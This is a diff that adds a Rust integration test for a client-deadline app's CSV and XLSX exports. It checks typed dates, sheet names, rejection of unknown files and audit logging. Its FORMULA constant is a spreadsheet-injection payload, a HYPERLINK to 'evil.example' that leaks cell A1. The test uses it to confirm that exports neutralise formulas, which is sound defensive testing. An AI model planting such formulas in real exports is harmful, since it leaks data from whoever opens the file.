@@ -1,0 +1,109 @@
+//! Exports from the API: each dataset as CSV and XLSX; the XLSX read back with calamine holds
+//! the same rows with typed dates and a frozen header; a client named like a formula comes out
+//! neutralised in both formats; every export is audited.
+
+use calamine::{Data, DataType, Reader, Xlsx};
+use chrono::NaiveDate;
+use kktbot::entities::client;
+use reqwest::{Method, StatusCode};
+use sea_orm::{ActiveModelTrait, EntityTrait, Set};
+use serde_json::Value;
+
+use super::{admin_token, builder, call, code, ok};
+use crate::support::seed::{client_with_deadline, date};
+use crate::support::{Backend, TestApp, backend_test};
+
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Нажмите\")";
+
+async fn download(app: &TestApp, token: &str, file: &str) -> (String, Vec<u8>) {
+    let res = app.http.get(app.url(&format!("/api/export/{file}"))).bearer_auth(token).send().await.unwrap();
+    assert_eq!(res.status(), 200, "{file}");
+    let disposition = res.headers()["content-disposition"].to_str().unwrap().to_string();
+    (disposition, res.bytes().await.unwrap().to_vec())
+}
+
+/// The first sheet's name and rows.
+fn sheet(bytes: Vec<u8>) -> (String, Vec<Vec<Data>>) {
+    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("an XLSX file");
+    let name = book.sheet_names()[0].clone();
+    let range = book.worksheet_range(&name).unwrap();
+    (name, range.rows().map(<[Data]>::to_vec).collect())
+}
+
+fn text(cell: &Data) -> String {
+    cell.as_string().unwrap_or_default()
+}
+
+backend_test!(exports_read_back_with_typed_dates_and_neutralised_formulas);
+async fn exports_read_back_with_typed_dates_and_neutralised_formulas(backend: Backend) {
+    let app = builder(backend).spawn().await;
+    let admin = admin_token(&app).await;
+    client_with_deadline(app.db(), "7707083893", &[], date("2027-03-01")).await;
+    let evil = client_with_deadline(app.db(), "7736207543", &[], date("2027-04-15")).await;
+    let mut renamed: client::ActiveModel =
+        client::Entity::find_by_id(evil.client_id).one(app.db()).await.unwrap().unwrap().into();
+    renamed.name = Set(FORMULA.into());
+    renamed.update(app.db()).await.unwrap();
+
+    // Deadlines: the same rows as the CSV, dates typed, the formula neutralised.
+    let (disposition, bytes) = download(&app, &admin, "deadlines.xlsx").await;
+    assert!(disposition.contains("deadlines-") && disposition.ends_with(".xlsx\""), "{disposition}");
+    let (name, rows) = sheet(bytes);
+    assert_eq!(name, "Сроки");
+    let header: Vec<String> = rows[0].iter().map(text).collect();
+    assert_eq!(header, kktbot::services::export::HEADER);
+    assert_eq!(rows.len(), 3, "a header and two deadlines");
+    let by_inn = |inn: &str| rows.iter().find(|r| text(&r[1]) == inn).unwrap_or_else(|| panic!("{inn}")).clone();
+    let plain = by_inn("7707083893");
+    assert_eq!(text(&plain[0]), "ООО «Клиент 7707083893»");
+    assert!(matches!(plain[5], Data::DateTime(_)), "a typed date: {:?}", plain[5]);
+    assert_eq!(plain[5].as_date(), NaiveDate::from_ymd_opt(2027, 3, 1));
+    assert!(matches!(plain[7], Data::Float(_) | Data::Int(_)), "days left is a number: {:?}", plain[7]);
+    let neutral = by_inn("7736207543");
+    assert_eq!(text(&neutral[0]), format!("'{FORMULA}"), "shown as text, never run");
+    assert_eq!(neutral[5].as_date(), NaiveDate::from_ymd_opt(2027, 4, 15));
+
+    let (_, csv) = download(&app, &admin, "deadlines.csv").await;
+    let csv = String::from_utf8(csv).unwrap();
+    let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').split("\r\n").filter(|l| !l.is_empty()).collect();
+    assert_eq!(lines.len(), rows.len(), "the CSV holds the same rows");
+    let evil_line = lines.iter().find(|l| l.contains("7736207543")).unwrap();
+    assert!(evil_line.starts_with("\"'=HYPERLINK("), "neutralised in the CSV too: {evil_line}");
+    assert!(evil_line.contains(";15.04.2027;"), "{evil_line}");
+
+    // Clients with their cash registers: a row per register.
+    let (name, rows) = sheet(download(&app, &admin, "clients.xlsx").await.1);
+    assert_eq!((name.as_str(), rows.len()), ("Клиенты", 3));
+    let serials: Vec<String> = rows[1..].iter().map(|r| text(&r[8])).collect();
+    assert!(serials.contains(&"SN-7707083893".to_string()) && serials.contains(&"SN-7736207543".to_string()));
+    assert!(rows.iter().any(|r| text(&r[0]) == format!("'{FORMULA}")));
+    let (_, clients_csv) = download(&app, &admin, "clients.csv").await;
+    assert!(String::from_utf8(clients_csv).unwrap().contains("\"'=HYPERLINK("));
+
+    // Requests and the reminder log: a header (and no rows yet).
+    for (file, sheet_name) in [("requests.xlsx", "Заявки"), ("reminders.xlsx", "Напоминания")] {
+        let (name, rows) = sheet(download(&app, &admin, file).await.1);
+        assert_eq!((name.as_str(), rows.len()), (sheet_name, 1), "{file}");
+    }
+
+    // Unknown files are refused; every export is in the audit log.
+    let (status, body) = call(&app, &admin, Method::GET, "/api/export/users.xlsx", None).await;
+    assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "validation_failed"));
+    let (status, _) = call(&app, &admin, Method::GET, "/api/export/deadlines.pdf", None).await;
+    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
+    let records = ok(&app, &admin, Method::GET, "/api/audit?entity=export&per_page=100", None).await;
+    let done: Vec<String> = records["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .rev()
+        .map(|r: &Value| {
+            format!("{}.{}", r["changes"]["dataset"].as_str().unwrap(), r["changes"]["format"].as_str().unwrap())
+        })
+        .collect();
+    assert_eq!(
+        done,
+        ["deadlines.xlsx", "deadlines.csv", "clients.xlsx", "clients.csv", "requests.xlsx", "reminders.xlsx"]
+    );
+    app.shutdown().await;
+}
